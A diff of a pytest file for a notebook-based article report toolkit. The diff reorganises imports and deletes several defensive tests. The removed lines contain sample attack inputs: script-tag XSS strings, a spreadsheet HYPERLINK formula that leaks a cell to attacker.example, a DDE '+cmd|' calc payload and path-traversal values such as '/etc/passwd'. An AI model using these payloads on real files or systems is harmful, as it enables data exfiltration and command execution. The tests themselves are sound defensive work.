@@ -11,51 +11,20 @@ import base64
 import copy
 import csv
 import json
-import os
 import re
 import shutil
-import signal
 import subprocess
 import sys
-import threading
 import time
 from pathlib import Path
 
 import nbformat
 import pytest
 from conftest import ROOT, SEED
+from report_samples import HARBOUR, PAYLOAD, read, run_cli
 
-from toolkit import reports as report
-from toolkit._io import atomic_write_text
-from toolkit.reports import (
-    BatchResult,
-    ReportOutcome,
-    _BatchRunner,
-    _Job,
-    _Manifest,
-    _report_names,
-    _safe_path,
-    _write_summary_csv,
-    build_reports,
-)
-
-PAYLOAD = (
-    "Minister &lt;script&gt;alert(1)&lt;/script&gt; resigns\n\n"
-    "The minister posted &lt;img src=x onerror=alert(2)&gt; on Monday, then raw "
-    "<script>alert(3)</script> markup.\n\n"
-    '"I am leaving &lt;script&gt;alert(4)&lt;/script&gt; today," said Anna Keller.\n'
-)
-HARBOUR = (
-    "Harbour reopens after storm\n\n"
-    "The harbour of Port Ellen reopened on Friday after a week of storms.\n\n"
-    '"Boats are back and the ferry runs again," said the harbour master, Iain Campbell.\n'
-)
-
-
-def run_cli(*args: str, **kwargs) -> subprocess.CompletedProcess:
-    return subprocess.run(
-        [sys.executable, "-m", "toolkit", *args], capture_output=True, text=True, **kwargs
-    )
+from toolkit.reports import build_reports, notebook_path
+from toolkit.reports._html_export import html_exporter
 
 
 @pytest.fixture(scope="module")
@@ -87,10 +56,6 @@ def batch(tmp_path_factory):
     }
 
 
-def read(path: Path) -> str:
-    return path.read_text(encoding="utf-8")
-
-
 # --- the batch ------------------------------------------------------------------------------
 
 
@@ -106,6 +71,7 @@ def test_bad_articles_fail_alone_and_the_exit_code_says_so(batch):
         ]
     )
     assert "6 articles: 3 built, 0 unchanged, 3 failed" in done.stderr
+    assert f"3 failed notebooks kept in {batch['out'] / '_failed'}" in done.stderr
     assert "Traceback" not in done.stderr
     out = batch["out"]
     for name in ("payload", "index-2", batch["seed_id"]):
@@ -239,10 +205,11 @@ def _normalised(nb) -> dict:
 def test_batch_report_equals_the_report_made_alone_by_plain_papermill(batch, tmp_path):
     seed_path = batch["paths"][-1]
     alone = tmp_path / "alone.ipynb"
+    tables = batch["out"] / f"{batch['seed_id']}_files"  # where a long article's would go
     done = subprocess.run(
-        [sys.executable, "-m", "papermill", str(report.notebook_path()), str(alone),
+        [sys.executable, "-m", "papermill", str(notebook_path()), str(alone),
          "-p", "article_path", seed_path, "-p", "article_id", batch["seed_id"],
-         "--no-progress-bar"],
+         "-p", "full_tables_dir", str(tables), "--no-progress-bar"],
         capture_output=True, text=True, cwd=batch["base"],
     )  # fmt: skip
     assert done.returncode == 0, done.stderr
@@ -253,7 +220,7 @@ def test_batch_report_equals_the_report_made_alone_by_plain_papermill(batch, tmp
     )
     assert _normalised(in_batch) == _normalised(made_alone)
     # The same HTML, too.
-    exporter = report._html_exporter()
+    exporter = html_exporter()
     title = {"metadata": {"name": "t"}}
     assert (
         exporter.from_notebook_node(made_alone, resources=dict(title))[0]
@@ -270,9 +237,11 @@ def test_without_nltk_data_every_report_warns_like_a_fresh_kernel(tmp_path, monk
     monkeypatch.chdir(tmp_path)
     result = build_reports(["harbour.txt", SEED.name], "out", workers=1, progress=False)
     assert result.counts == {"built": 2, "skipped": 0, "failed": 0}
+    tables = tmp_path / "out" / f"{SEED.stem}_files"
     done = subprocess.run(
-        [sys.executable, "-m", "papermill", str(report.notebook_path()), "alone.ipynb",
-         "-p", "article_path", SEED.name, "-p", "article_id", SEED.stem, "--no-progress-bar"],
+        [sys.executable, "-m", "papermill", str(notebook_path()), "alone.ipynb",
+         "-p", "article_path", SEED.name, "-p", "article_id", SEED.stem,
+         "-p", "full_tables_dir", str(tables), "--no-progress-bar"],
         capture_output=True, text=True,
     )  # fmt: skip
     assert done.returncode == 0, done.stderr
@@ -340,6 +309,7 @@ def test_a_missing_data_warning_empties_only_the_loaders_that_warned(monkeypatch
     (the estimator's model, the actor lexicon) stay loaded."""
     import warnings
 
+    from toolkit import lang
     from toolkit.actors import _lexicon
     from toolkit.lang import nltk_data
     from toolkit.reports import _in_kernel
@@ -351,28 +321,28 @@ def test_a_missing_data_warning_empties_only_the_loaders_that_warned(monkeypatch
     nltk_data.have.cache_clear()
     nltk_data.warn_missing.cache_clear()
     syllables._default_counter.cache_clear()
+    lang.clear_cache(only_warned=True)  # forget earlier notes
+    counter = "toolkit.text.syllables._default_counter"
     try:
         shown = []
         with warnings.catch_warnings():
             warnings.simplefilter("always")
             warnings.showwarning = lambda message, category, *args: shown.append(category)
-            _in_kernel._watch_warnings()
             warnings.warn("not about NLTK data", UserWarning, stacklevel=1)
-            assert _in_kernel._warned_from == set()
+            assert lang.CACHE.warned() == []
             syllables.count_syllables("harbour")
         assert shown == [UserWarning, nltk_data.NltkDataMissingWarning]
-        assert syllables._default_counter in _in_kernel._warned_from
-        assert _lexicon.lexicon not in _in_kernel._warned_from
+        assert lang.CACHE.warned() == ["toolkit.lang.nltk_data.warn_missing", counter]
         _in_kernel._clear_loaders_that_warned()
-        assert syllables._default_counter.cache_info().currsize == 0
+        assert lang.CACHE.size(counter) == 0 and lang.CACHE.warned() == []
         assert syllables._model.cache_info().currsize == 1
         assert _lexicon.lexicon.cache_info().currsize == 1
     finally:
-        _in_kernel._warned_from.clear()
         monkeypatch.delenv("TOOLKIT_NLTK_DATA")
         nltk_data.have.cache_clear()
         nltk_data.warn_missing.cache_clear()
         syllables._default_counter.cache_clear()
+        lang.clear_cache(only_warned=True)
 
 
 # --- incremental ----------------------------------------------------------------------------
@@ -450,198 +420,7 @@ def test_changed_and_failing_articles_and_force_rebuild(batch, tmp_path):
     assert 'href="index-2.html"' not in index and "file is empty" in index
 
 
-def test_no_articles_outside_the_output_folder(tmp_path):
-    (tmp_path / "reports").mkdir()
-    (tmp_path / "reports" / "old.html").write_text("<p>an old report</p>", encoding="utf-8")
-    with pytest.raises(ValueError, match="no article files found outside the output folder"):
-        build_reports(tmp_path, tmp_path / "reports")
-    with pytest.raises(ValueError, match="outside the output folder"):
-        build_reports([tmp_path / "reports" / "old.html"], tmp_path / "reports")
-
-
-def test_summary_csv_defuses_spreadsheet_formulas(tmp_path):
-    """Titles, sources and reasons come from articles: a cell a spreadsheet would run as a
-    formula is written with a leading apostrophe."""
-    evil = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for the full story")'
-    outcomes = [
-        ReportOutcome(
-            "evil",
-            "news/evil.txt",
-            "built",
-            summary={"title": evil, "words": 120, "top_actors": ["@Putin", "Biden"]},
-            files=("evil.html",),
-        ),
-        ReportOutcome("minus", "-2+3.txt", "failed", error="+cmd|' /C calc'!A0"),
-    ]
-    _write_summary_csv(tmp_path, BatchResult(out=tmp_path, outcomes=outcomes))
-    rows = list(csv.DictReader((tmp_path / "summary.csv").open(encoding="utf-8")))
-    assert rows[0]["title"] == "'" + evil
-    assert rows[0]["top_actors"] == "'@Putin; Biden"
-    assert rows[0]["words"] == "120"
-    assert rows[1]["source"] == "'-2+3.txt"
-    assert rows[1]["error"] == "'+cmd|' /C calc'!A0"
-    for row in rows:
-        assert not any(str(v).startswith(("=", "+", "-", "@")) for v in row.values())
-
-
-def test_installing_nltk_data_changes_every_report_key(tmp_path, monkeypatch):
-    """Reports built with a fallback (no cmudict) are rebuilt after `toolkit setup`."""
-    from toolkit.lang import nltk_data
-
-    monkeypatch.delenv("TOOLKIT_NLTK_DATA", raising=False)
-    # The environment variables stay the same: only what is installed changes.
-    monkeypatch.setattr(nltk_data, "search_path", lambda: [tmp_path / "nltk_data"])
-    notebook = report.notebook_path()
-    try:
-        before = report._batch_key(notebook, ("html",))
-        assert "cmudict" in nltk_data.missing()
-        (tmp_path / "nltk_data" / "corpora" / "cmudict").mkdir(parents=True)  # as setup does
-        after = report._batch_key(notebook, ("html",))
-        assert "cmudict" not in nltk_data.missing()
-    finally:
-        nltk_data.have.cache_clear()
-    assert before != after
-
-
-def test_a_hand_edited_manifest_cannot_point_outside_the_report(tmp_path):
-    victim = tmp_path / "precious.txt"
-    victim.write_text("keep me", encoding="utf-8")
-    out = tmp_path / "out"
-    out.mkdir()
-    (out / "a.html").write_text("<p>a</p>", encoding="utf-8")
-    manifest = _Manifest(out / "manifest.json", {})
-    for files in (["../precious.txt"], ["b.html"], ["/etc/passwd"], "a.html", [], [7]):
-        assert report._manifest_files(out, "a", {"files": files}) is None
-    assert report._manifest_files(out, "a", {"files": ["a.html"]}) == ("a.html",)
-    manifest.reports["a"] = {"key": "k", "files": ["a.html", "../precious.txt"]}
-    report._drop_stale_report(out, manifest, "a")
-    assert victim.read_text(encoding="utf-8") == "keep me"
-    assert "a" not in manifest.reports
-    # A forced rebuild of an unchanged article that fails keeps the report of that same text.
-    manifest.reports["a"] = {"key": "k", "files": ["a.html"]}
-    report._drop_stale_report(out, manifest, "a", key="k")
-    assert (out / "a.html").is_file() and "a" in manifest.reports
-    report._drop_stale_report(out, manifest, "a", key="changed")
-    assert not (out / "a.html").exists() and "a" not in manifest.reports
-
-
-def test_an_interrupted_article_keeps_no_failed_notebook(tmp_path):
-    """After Ctrl-C the running notebooks fail because the batch cut them short: they are
-    not failures of their articles, and nothing goes to _failed/."""
-    runner = _BatchRunner(tmp_path, report.notebook_path(), ("html",), 60, _Manifest(tmp_path, {}))
-    job = _Job("harbour", tmp_path / "harbour.txt", "harbour.txt", "key")
-    nb = nbformat.v4.new_notebook()
-    runner.stop.set()
-    runner._failed(job, "harbour.txt: notebook error: KeyboardInterrupt", nb)
-    assert not (tmp_path / "_failed").exists()
-    runner.stop = threading.Event()
-    outcome = runner._failed(job, "harbour.txt: notebook error: RuntimeError", nb)
-    assert outcome.failed_notebook == "_failed/harbour.ipynb"
-
-
-# --- robustness -----------------------------------------------------------------------------
-
-
-def test_notebook_errors_and_dead_kernels_fail_one_article_only(tmp_path):
-    nb = nbformat.read(report.notebook_path(), as_version=4)
-    trap = nbformat.v4.new_code_cell(
-        "import os\n"
-        "if 'boom' in article_path: raise RuntimeError('the analysis blew up')\n"
-        "if 'die' in article_path: os._exit(1)\n"
-        "if 'slow' in article_path: __import__('time').sleep(120)"
-    )
-    nb.cells.insert(2, trap)
-    custom = tmp_path / "trap.ipynb"
-    nbformat.write(nb, custom)
-    names = ("die.txt", "boom.txt", "slow.txt", "fine.txt")
-    for name in names:
-        (tmp_path / name).write_text(HARBOUR, encoding="utf-8")
-    paths = [str(tmp_path / n) for n in names]
-    failures = []
-    result = build_reports(
-        paths,
-        tmp_path / "out",
-        workers=1,
-        notebook=custom,
-        timeout=8,
-        progress=False,
-        on_failure=failures.append,
-    )
-    assert [(o.id, o.status) for o in result.outcomes] == [
-        ("die", "failed"),
-        ("boom", "failed"),
-        ("slow", "failed"),
-        ("fine", "built"),
-    ]
-    assert result.exit_code == 1
-    die, boom, slow = (o.error for o in result.outcomes[:3])
-    assert die.startswith(f"{paths[0]}: kernel died or failed (") and "kernel restarted" in die
-    assert boom == f"{paths[1]}: notebook error in cell [3]: RuntimeError: the analysis blew up"
-    assert slow == f"{paths[2]}: a notebook cell ran over 8 s (kernel restarted)"
-    assert failures == result.failures
-    kept = nbformat.read(tmp_path / "out" / "_failed" / "boom.ipynb", as_version=4)
-    assert any(o.get("ename") == "RuntimeError" for c in kept.cells for o in c.get("outputs", []))
-
-
-def test_interrupted_batch_leaves_complete_reports_and_the_next_run_finishes(tmp_path):
-    articles = tmp_path / "articles"
-    articles.mkdir()
-    for i in range(8):
-        (articles / f"harbour{i}.txt").write_text(HARBOUR.replace("Friday", f"day {i}"))
-    out = tmp_path / "reports"
-    command = [sys.executable, "-m", "toolkit", "report", str(articles), "--out", str(out)]
-    proc = subprocess.Popen([*command, "--workers", "1"], stderr=subprocess.DEVNULL)
-    deadline = time.monotonic() + 90
-    while not list(out.glob("harbour*.html")) and time.monotonic() < deadline:
-        time.sleep(0.05)
-    os.kill(proc.pid, signal.SIGKILL)
-    proc.wait()
-    (out / ".tk-harbour7.html.0123.tmp").write_text("<html><body>half a rep")  # as if cut short
-    for page in out.glob("harbour*.html"):
-        assert read(page).rstrip().endswith("</html>"), page
-    manifest = json.loads(read(out / "manifest.json")) if (out / "manifest.json").exists() else None
-    recorded = set(manifest["reports"]) if manifest else set()
-    for name in recorded:
-        assert (out / f"{name}.html").is_file() and (out / f"{name}.ipynb").is_file()
-
-    done = run_cli("report", str(articles), "--out", str(out), "--quiet")
-    assert done.returncode == 0, done.stderr
-    assert (
-        f"8 articles: {8 - len(recorded)} built, {len(recorded)} unchanged, 0 failed" in done.stderr
-    )
-    assert not list(out.glob(".tk-*"))
-    assert len(list(out.glob("harbour*.html"))) == 8
-
-
-def test_atomic_write_keeps_the_old_file_when_writing_fails(tmp_path, monkeypatch):
-    target = tmp_path / "a.html"
-    target.write_text("old report")
-
-    def broken_fsync(fd):
-        raise OSError(28, "No space left on device")
-
-    monkeypatch.setattr(os, "fsync", broken_fsync)
-    with pytest.raises(OSError, match="No space left"):
-        atomic_write_text(target, "new report")
-    assert read(target) == "old report"
-    assert [p.name for p in tmp_path.iterdir()] == ["a.html"]
-
-
-def test_report_paths_stay_in_the_output_folder(tmp_path):
-    for bad in ("../evil", "..", "a/b", "/etc/passwd", "a\\b", ""):
-        with pytest.raises(ValueError):
-            _safe_path(tmp_path, bad)
-    assert _safe_path(tmp_path, "ok.html") == tmp_path / "ok.html"
-    names = _report_names(
-        {
-            Path("a/index.txt"): "index",
-            Path("b/Index.txt"): "Index",
-            Path("c/x.txt"): "_x",
-            Path("d/A.txt"): "A",
-            Path("e/a.txt"): "a",
-        }
-    )
-    assert list(names.values()) == ["index-2", "Index-3", "x-2", "A", "a-2"]
+# --- the command line and the notebook ------------------------------------------------------
 
 
 def test_no_articles_and_bad_options(tmp_path):
@@ -668,7 +447,7 @@ def test_cli_turns_an_unexpected_error_into_one_line(tmp_path, monkeypatch, caps
 
 
 def test_the_notebook_is_found_and_stored_clean():
-    path = report.notebook_path()
+    path = notebook_path()
     assert path == ROOT / "toolkit" / "reports" / "notebook" / "article_report.ipynb"
     # One source: the checkout's notebooks/ copy (linked from the README) is the same file.
     assert (ROOT / "notebooks" / "article_report.ipynb").read_bytes() == path.read_bytes()
@@ -684,14 +463,14 @@ def test_the_notebook_is_found_and_stored_clean():
 def test_batch_imports_papermill_without_optional_slow_modules_and_hides_nothing_after():
     code = (
         "import sys\n"
-        "from toolkit import reports as report\n"
-        "report._import_notebook_tools()\n"
-        "print(sorted(m for m in report._SKIPPED_OPTIONAL_IMPORTS if m in sys.modules))\n"
+        "from toolkit.reports._imports import SKIPPED_OPTIONAL_IMPORTS, import_notebook_tools\n"
+        "import_notebook_tools()\n"
+        "print(sorted(m for m in SKIPPED_OPTIONAL_IMPORTS if m in sys.modules))\n"
         "import papermill, nbformat\n"
         "print(nbformat.validate(nbformat.v4.new_notebook()))\n"
         "import importlib.util\n"
         "print(all(importlib.util.find_spec(m) is None or sys.modules.get(m, 1) is not None"
-        " for m in report._SKIPPED_OPTIONAL_IMPORTS))\n"
+        " for m in SKIPPED_OPTIONAL_IMPORTS))\n"
     )
     out = subprocess.run(
         [sys.executable, "-c", code], capture_output=True, text=True, check=True
